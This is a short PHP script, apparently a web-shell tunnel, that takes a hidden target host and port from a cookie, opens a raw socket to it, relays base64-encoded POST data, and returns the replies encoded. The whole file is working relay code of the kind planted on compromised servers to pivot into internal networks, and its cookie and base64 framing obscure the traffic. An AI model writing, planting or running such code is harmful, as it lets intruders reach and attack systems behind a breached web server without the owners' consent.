<?php
// probe (never run): base64 frames from a cookie-named target relayed through a raw socket
list($h, $p) = explode(':', base64_decode($_COOKIE['dst']));
$sk = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($sk, $h, (int) $p);
socket_write($sk, base64_decode($_POST['d']));
$buf = '';
while (($chunk = @socket_read($sk, 4096)) != '') { $buf .= $chunk; }
echo base64_encode($buf);
